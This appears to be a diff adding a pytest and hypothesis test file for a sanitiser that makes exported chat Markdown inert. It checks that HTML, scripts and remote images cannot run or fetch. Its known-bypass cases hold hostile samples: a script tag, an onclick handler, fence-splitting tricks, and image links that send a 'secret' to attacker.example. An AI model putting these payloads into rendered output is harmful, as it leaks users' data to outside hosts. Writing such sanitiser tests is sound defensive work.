@@ -1,0 +1,147 @@
+"""Exported Markdown: it looks as before, and nothing in it runs or fetches, whatever renders it."""
+
+from __future__ import annotations
+
+import mistune
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from chatanywhere_magic.export.inert import blocks, inert
+
+RENDERERS = [
+    MarkdownIt("commonmark", {"html": True}),
+    MarkdownIt("gfm-like", {"html": True, "linkify": False}),
+]
+PIECES = [
+    *("`", "``", "```", "```py\n", "~~~", "~~~~", "\n", "\n\n", "\r\n", "\r", " ", "   ", "     ", "\t", "a", "b "),
+    *(
+        "<b>",
+        "</b>",
+        "<img src=x>",
+        "<!-- ",
+        " -->",
+        "<?x?>",
+        "<a@b.c>",
+        "<https://a.b>",
+        "<",
+        ">",
+        "![a](b)",
+        "![",
+        "!",
+    ),
+    *("[a]: b\n", "![a]", "- ", "1. ", "> ", "# ", "| ", "|-|-|\n", "$", "$$", "\\", "\\(", "\\)", "&lt;", "* * *\n"),
+]
+"""What Markdown's syntax is made of, and what must not come through."""
+
+
+def alive(markdown: str) -> list[str]:
+    """What in a text would run or fetch."""
+    found = []
+    for renderer in RENDERERS:
+        for token in renderer.parse(markdown):
+            inner = token.children or []
+            found += [each.type for each in (token, *inner) if each.type in {"html_block", "html_inline", "image"}]
+    tokens = mistune.create_markdown(renderer=None, plugins=["table"])(markdown)
+    return found + alive_in_mistune(tokens)
+
+
+def alive_in_mistune(tokens: list[dict[str, object]]) -> list[str]:
+    found = []
+    for token in tokens:
+        if token["type"] in {"block_html", "inline_html", "image"}:
+            found.append(str(token["type"]))
+        found += alive_in_mistune(token.get("children") or [])
+    return found
+
+
+@settings(max_examples=1500)
+@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
+def test_nothing_is_alive(markdown: str) -> None:
+    assert alive(inert(markdown)) == []
+
+
+@pytest.mark.parametrize(
+    "markdown",
+    [
+        "<script>alert(1)</script>",
+        "![](https://attacker.example/?q=secret)",
+        "![a][b]\n\n[b]: https://attacker.example",
+        '<img src="https://attacker.example">',
+        "text <b onclick=x>y</b>",
+        "\\\\<b>",
+        "\\![a](b)",
+        "` \n<img src=x> `",
+        "a `\nb` <img src=x> ` z `",
+        "| a ` | <img src=x> ` |\n|-|-|",
+        "1. a\n   ```\n<img src=x>\n   ```",
+        "- ```\n<img src=x>\n```",
+        "> ```\n<img src=x>\n> ```",
+        "text ```\n     ```\n     <img src=x>\n     ```",
+        "text `\n     ```\n     a ` <img src=x>\n     ```",
+        "```\n``` <img src=x>\n```\n<img src=x>",
+        "```a`b\n<img src=x>\n```",
+        "~~~\n```\n<img src=x>\n~~~\n<img src=x>",
+        "    ```\n<img src=x>",
+        "<!-- `-->` <img src=x> `",
+    ],
+)
+def test_known_ways_to_come_through(markdown: str) -> None:
+    assert alive(markdown) or "`" in markdown or "\\" in markdown
+    assert alive(inert(markdown)) == []
+
+
+@pytest.mark.parametrize(
+    "markdown",
+    [
+        "# Title\n\nWords, *emphasis*, [a link](https://example.com).\n",
+        "Is 1 < 2, or 2 > 1? $x < y$ and a <- b\n",
+        "Use `List<int>` or ``a ` <b>``.",
+        "```html\n<b>bold</b>\n![a](b)\n```\n",
+        "~~~~ cpp\n#include <vector>\n~~~\n~~~~\n",
+        "1. First\n   ```html\n   <b>\n\n   </b>\n   ```\n2. Second",
+        "Already \\<b> and \\![a](b)",
+        "Wow!\n\n[link](x)",
+        "````\n```\n<b>\n```\n````",
+    ],
+)
+def test_what_is_harmless_stays_as_it_is(markdown: str) -> None:
+    assert inert(markdown) == markdown
+
+
+@pytest.mark.parametrize(
+    ("markdown", "taken_apart"),
+    [
+        ("Say <b>hi</b>", "Say \\<b>hi\\</b>"),
+        ("![cat](https://x/cat.png)", "!\\[cat](https://x/cat.png)"),
+        ("It is $a<b$, \\(a<b\\)", "It is $a< b$, \\(a< b\\)"),
+        ("```python\nprint(1", "```python\nprint(1\n```"),
+        ("a\r\nb\rc", "a\nb\nc"),
+    ],
+)
+def test_how_it_is_taken_apart(markdown: str, taken_apart: str) -> None:
+    assert inert(markdown) == taken_apart
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
+def test_once_is_enough(markdown: str) -> None:
+    once = inert(markdown)
+    assert inert(once) == once
+
+
+def test_blocks_know_their_language() -> None:
+    found = blocks("Text\n```Python title=x\n1\n```\n~~~\n2\n~~~\nmore\n```")
+    assert [(block.language, block.lines) for block in found] == [
+        (None, ["Text"]),
+        ("python", ["1"]),
+        ("", ["2"]),
+        (None, ["more"]),
+        ("", []),
+    ]
+
+
+@pytest.mark.parametrize("piece", PIECES)
+def test_long_texts_take_time_with_their_length(piece: str) -> None:
+    inert(piece * (200_000 // len(piece)))
+    inert((piece + "\n") * (100_000 // len(piece)))
